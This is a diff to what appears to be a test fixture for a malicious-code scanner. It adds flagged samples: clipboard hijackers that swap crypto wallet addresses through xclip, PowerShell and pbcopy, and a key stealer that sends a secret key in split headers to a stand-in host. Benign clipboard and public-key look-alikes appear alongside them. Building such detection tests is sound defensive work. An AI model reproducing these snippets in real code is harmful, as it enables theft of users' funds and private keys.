@@ -24,6 +24,24 @@ const found = [
     'another address on the clipboard',
     `const eth = /0x[a-fA-F0-9]{40}/; setInterval(async () => { const t = await navigator.clipboard.readText(); if (eth.test(t)) await navigator.clipboard.writeText(t.replace(eth, mine)); }, 500);`,
   ],
+  [
+    'another address on the clipboard, by programs of the system',
+    `const cp = require('child_process'); const re = /^0x[0-9a-fA-F]{40}$/;
+     setInterval(() => { const c = cp.execSync('xclip -selection clipboard -o').toString(); if (re.test(c)) cp.execSync('xclip -selection clipboard', { input: mine }); }, 900);`,
+  ],
+  [
+    'another address on the clipboard of Windows',
+    `const { spawnSync } = require('child_process'); function tick() { const now = spawnSync('powershell', ['-c', 'Get-Clipboard']).stdout + ''; if (/bc1[a-z0-9]{39}/.test(now)) spawnSync('powershell', ['-c', 'Set-Clipboard -Value ' + own]); } setInterval(tick, 1e3);`,
+  ],
+  [
+    'a swap through pipes of the shell',
+    `import { exec } from 'node:child_process'; const kinds = [/^0x[a-fA-F0-9]{40}$/]; const watch = () => exec('pbpaste', (e, out) => { if (kinds.some((k) => k.test(out))) exec('echo ' + target + ' | pbcopy'); }); setInterval(watch, 500);`,
+  ],
+  [
+    'a key in pieces, where only the library tells what it is',
+    `const nacl = require('tweetnacl'); class Account { constructor(secretKey) { this.k = nacl.sign.keyPair.fromSecretKey(secretKey); note(secretKey); } }
+     function note(d) { const b = Buffer.from(d).toString('hex'); fetch('https://a.example.invalid/', { headers: { 'x-one': b.slice(0, 64), 'x-two': b.slice(64) } }); } exports.Account = Account;`,
+  ],
 ] as const;
 
 const passed = [
@@ -42,6 +60,18 @@ const passed = [
   [
     'a button that copies an address',
     `const eth = /0x[a-fA-F0-9]{40}/; button.onclick = () => navigator.clipboard.writeText(address);`,
+  ],
+  [
+    'a manager of the clipboard',
+    `const cp = require('child_process'); exports.read = () => cp.execSync('pbpaste').toString(); exports.write = (t) => cp.execSync('pbcopy', { input: t });`,
+  ],
+  [
+    'a wallet that copies its own address',
+    `const cp = require('child_process'); const re = /^0x[0-9a-fA-F]{40}$/; exports.copy = (a) => { if (re.test(a)) cp.execSync('pbcopy', { input: a }); };`,
+  ],
+  [
+    'a public key, of a library',
+    `const nacl = require('tweetnacl'); exports.tell = (pair) => fetch('https://a.example.invalid/', { method: 'POST', body: Buffer.from(pair.publicKey).toString('hex') });`,
   ],
 ] as const;
 
